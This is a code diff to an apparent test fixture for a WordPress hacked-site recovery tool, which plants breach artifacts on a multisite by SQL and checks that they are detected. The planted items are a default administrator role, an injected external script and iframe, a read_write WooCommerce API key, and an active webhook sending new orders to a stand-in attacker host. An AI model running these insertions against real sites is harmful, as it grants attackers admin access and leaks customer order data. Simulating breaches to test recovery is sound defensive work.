@@ -23,7 +23,7 @@ import {replace, type Recipe, type RecipeContext} from './recipe';
 import {READER, run, tool} from './system';
 import {SITE, wordpressNamespace, type WordPressNamespace} from './wordpress';
 import {pristineSite, reinstallSite} from './wordpressBackup';
-import {CODE_FREE_CHECKS, LOADING_CHECKS, wooCommerceTables} from './wordpressSecurity';
+import {CODE_FREE_CHECKS, LOADING_CHECKS, wooCommerceKeyAndWebhook} from './wordpressSecurity';
 
 const RECOVERY = 'wordpress/hacked-site-recovery';
 export const MULTISITE_BLOCK: BlockRef = {
@@ -45,7 +45,7 @@ const PLANTED = {
   role: 'keeper',
   postScript: '<script src="https://cdn.example.net/s.js"></script>',
   option: 'shop_footer',
-  shopKey: 'Stock sync',
+  shopKey: {description: 'Stock sync', permissions: 'read_write'},
   shopWebhook: {name: 'Stock feed', url: 'https://hooks.evil.example/stock'},
 };
 
@@ -90,11 +90,12 @@ function brokenIntoNetwork(ctx: RecipeContext, ns: WordPressNamespace): Promise<
         "UPDATE wp_2_options SET option_value = 'administrator' WHERE option_name = 'default_role'",
         `UPDATE wp_2_posts SET post_content = CONCAT(post_content, '${PLANTED.postScript}') WHERE ID = 1`,
         `INSERT INTO wp_2_options (option_name, option_value, autoload) VALUES ('${PLANTED.option}', '<iframe src="https://cdn.example.net/f"></iframe>', 'yes')`,
-        wooCommerceTables('wp_2_').replace(/;$/, ''),
-        `INSERT INTO wp_2_woocommerce_api_keys (user_id, description, permissions, consumer_key, consumer_secret, truncated_key)
-          SELECT ID, '${PLANTED.shopKey}', 'read_write', SHA2('ck_planted', 256), 'cs_planted', 'planted' FROM wp_users WHERE user_login = '${PLANTED.shopAdmin}'`,
-        `INSERT INTO wp_2_wc_webhooks (status, name, user_id, delivery_url, secret, topic, api_version)
-          SELECT 'active', '${PLANTED.shopWebhook.name}', ID, '${PLANTED.shopWebhook.url}', 'planted', 'order.created', 3 FROM wp_users WHERE user_login = '${PLANTED.shopAdmin}'`,
+        wooCommerceKeyAndWebhook(
+          'wp_2_',
+          `(SELECT ID FROM wp_users WHERE user_login = '${PLANTED.shopAdmin}')`,
+          PLANTED.shopKey,
+          PLANTED.shopWebhook,
+        ).replace(/;$/, ''),
       ].join(';\n'),
       SITE.database,
     );
@@ -201,10 +202,10 @@ async function checkNetwork(ctx: RecipeContext) {
     `the script in site 2's post 1 and the iframe in its option ${PLANTED.option}`,
   );
   expectShown(
-    hasRow(out, /\d+/, /\d+/, PLANTED.shopAdmin, PLANTED.shopKey, 'read_write', 'NULL') &&
+    hasRow(out, /\d+/, /\d+/, PLANTED.shopAdmin, PLANTED.shopKey.description, PLANTED.shopKey.permissions, 'NULL') &&
       hasRow(out, /\d+/, PLANTED.shopWebhook.name, 'active', PLANTED.shopWebhook.url, /\d+/, PLANTED.shopAdmin),
-    `site 2's WooCommerce tables show its API key "${PLANTED.shopKey}" and webhook "${PLANTED.shopWebhook.name}", each with ${PLANTED.shopAdmin} as owner`,
-    `site 2's API key "${PLANTED.shopKey}" and webhook "${PLANTED.shopWebhook.name}"`,
+    `site 2's WooCommerce tables show its API key "${PLANTED.shopKey.description}" and webhook "${PLANTED.shopWebhook.name}", each with ${PLANTED.shopAdmin} as owner`,
+    `site 2's API key "${PLANTED.shopKey.description}" and webhook "${PLANTED.shopWebhook.name}"`,
   );
   expectShown(
     new RegExp(`^#\\d+ "${PLANTED.role}" manage_options$`, 'm').test(out),
